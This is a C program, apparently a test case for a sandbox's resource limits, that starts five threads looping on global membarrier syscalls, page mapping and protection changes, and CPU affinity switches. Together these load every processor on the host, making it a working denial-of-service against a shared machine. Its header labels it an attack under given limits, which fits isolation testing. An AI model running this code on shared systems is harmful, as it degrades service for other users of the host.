// attacks: 1: calls that make work for every processor
// limits: cpu=300ms wall=20s processes=16 memory=64MiB
#define _GNU_SOURCE
#include <linux/membarrier.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <unistd.h>

static void *storm(void *unused)
{
    static char bytes[65536];
    for (unsigned i = 0;; i++) {
        syscall(SYS_membarrier, MEMBARRIER_CMD_GLOBAL, 0, 0);
        syscall(SYS_membarrier, MEMBARRIER_CMD_PRIVATE_EXPEDITED_SYNC_CORE, 0, 0);
        if (getrandom(bytes, sizeof bytes, 0) < 0) {
            return unused;
        }
        void *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
        mprotect(page, 1 << 20, PROT_READ);
        munmap(page, 1 << 20);
        cpu_set_t one = {.__bits = {1ul << i % 2}};
        sched_setaffinity(0, sizeof one, &one);
    }
}

int main(void)
{
    syscall(SYS_membarrier, MEMBARRIER_CMD_REGISTER_PRIVATE_EXPEDITED_SYNC_CORE, 0, 0);
    pthread_t thread;
    for (int i = 0; i < 4; i++) {
        pthread_create(&thread, NULL, storm, NULL);
    }
    storm(NULL);
    return 0;
}
